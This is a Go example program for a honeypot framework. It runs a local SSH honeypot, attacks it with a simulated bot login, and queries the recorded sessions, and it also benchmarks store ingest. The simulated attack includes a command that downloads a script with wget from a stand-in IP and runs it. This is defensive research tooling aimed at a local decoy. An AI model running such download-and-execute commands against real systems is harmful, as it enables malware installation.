// Store: run a honeypot node that sinks sessions straight into the
// embedded month-partitioned session store, attack it over real SSH,
// then reopen the sealed store two ways — through the honeynet facade
// for the full analysis pipeline, and through the hnquery DSL for
// declarative queries whose predicate pushdown is visible via EXPLAIN.
package main

import (
	"fmt"
	"log"
	"os"
	"strings"
	"time"

	"honeynet"
	"honeynet/internal/query"
	"honeynet/internal/session"
	"honeynet/internal/sshclient"
	"honeynet/internal/store"
)

func main() {
	dir, err := os.MkdirTemp("", "honeynet-store-*")
	if err != nil {
		log.Fatal(err)
	}
	defer os.RemoveAll(dir)

	// A store-only node: no stdout stream, every record appended to
	// the store's WAL (group-committed: one write and fsync is
	// amortized over up to 512 records or 2 ms of arrivals, whichever
	// comes first) and sealed into per-month segments on drain.
	srv, err := honeynet.Serve(honeynet.ServeConfig{
		SSHAddr:   "127.0.0.1:0",
		StorePath: dir,
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("honeypot listening on", srv.SSHAddr(), "— storing to", dir)

	// Attack it the way a typical loader bot does.
	cli, err := sshclient.Dial(srv.SSHAddr(), sshclient.Config{User: "root", Password: "admin"})
	if err != nil {
		log.Fatal(err)
	}
	for _, cmd := range []string{
		`uname -a`,
		`cd /tmp; wget http://198.51.100.7/bins.sh; sh bins.sh`,
	} {
		if _, err := cli.Exec(cmd); err != nil {
			log.Fatal(err)
		}
	}
	cli.Close()

	// The record is appended at session teardown, which races our
	// client close; give it a moment before draining.
	for i := 0; i < 500; i++ {
		time.Sleep(10 * time.Millisecond)
		if p, err := honeynet.Open(dir); err == nil && len(p.World.Records) > 0 {
			break
		}
	}

	// Drain seals the WAL into immutable segments and commits the
	// manifest; the directory is now a queryable dataset.
	if _, err := srv.Drain("example done"); err != nil {
		log.Fatal(err)
	}

	// Route one: the facade. Open materializes the records (in exact
	// append order) and hands back the same pipeline Simulate would.
	p, err := honeynet.Open(dir)
	if err != nil {
		log.Fatal(err)
	}
	rec := p.World.Records[0]
	fmt.Printf("\nfacade Open: %d session(s); first: kind=%s commands=%d downloads=%d\n",
		len(p.World.Records), rec.Kind(), len(rec.Commands), len(rec.Downloads))

	// Route two: the hnquery DSL. One statement compiles to a structured
	// store.Query with real pushdown. A monthly rollup is a GROUP BY, and
	// because month, kind, and proto live in sealed segment metadata, the
	// aggregate answers with zero block reads. EXPLAIN proves it.
	st, err := store.OpenDir(dir)
	if err != nil {
		log.Fatal(err)
	}
	defer st.Close()
	res, err := query.Run(st,
		`EXPLAIN SELECT month, kind, count(*) GROUP BY month, kind ORDER BY month, kind`)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("\nEXPLAIN SELECT month, kind, count(*) GROUP BY month, kind:")
	for _, line := range res.Explain {
		fmt.Println("  | " + line)
	}
	for _, row := range res.Rows {
		fmt.Printf("  %s  %-17s  %s\n", row[0], row[1], row[2])
	}

	// Predicates are typed expressions, not closures: the planner sees
	// them, prunes segments by time bounds, routes `ip =` through the
	// Bloom filters, and decodes only the fields the query touches.
	res, err = query.Run(st,
		`SELECT start, ip, user, cmds WHERE login_ok = true AND cmd ~ /wget/`)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("\nsessions that logged in and ran wget:")
	for _, row := range res.Rows {
		cells := make([]string, len(row))
		for i, v := range row {
			cells[i] = v.String()
		}
		fmt.Println("  " + strings.Join(cells, "  "))
	}

	// Route three: raw ingest. Group commit makes the append path fast
	// enough to absorb a scanning wave: a burst of records lands at
	// hundreds of thousands per second on one core, each one
	// crash-safe in the WAL within MaxDelay.
	burstDir, err := os.MkdirTemp("", "honeynet-burst-*")
	if err != nil {
		log.Fatal(err)
	}
	defer os.RemoveAll(burstDir)
	bs, err := store.Open(burstDir, store.Options{
		MaxBatch: 512,
		MaxDelay: 2 * time.Millisecond,
	})
	if err != nil {
		log.Fatal(err)
	}
	const burst = 100_000
	begin := time.Now()
	for i := 0; i < burst; i++ {
		at := time.Date(2021, 5, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Second)
		if err := bs.Append(&session.Record{
			ID:         uint64(i),
			Start:      at,
			End:        at.Add(30 * time.Second),
			HoneypotID: "hp-1",
			ClientIP:   fmt.Sprintf("192.0.2.%d", i%254+1),
			ClientPort: 40000 + i%20000,
			Protocol:   session.ProtoSSH,
			Logins:     []session.LoginAttempt{{Username: "root", Password: "123456"}},
		}); err != nil {
			log.Fatal(err)
		}
	}
	if err := bs.Close(); err != nil { // final seal: everything durable
		log.Fatal(err)
	}
	el := time.Since(begin)
	fmt.Printf("\ningest burst: %d records in %v (%.0f recs/s, group-committed WAL, sealed columnar)\n",
		burst, el.Round(time.Millisecond), float64(burst)/el.Seconds())
}
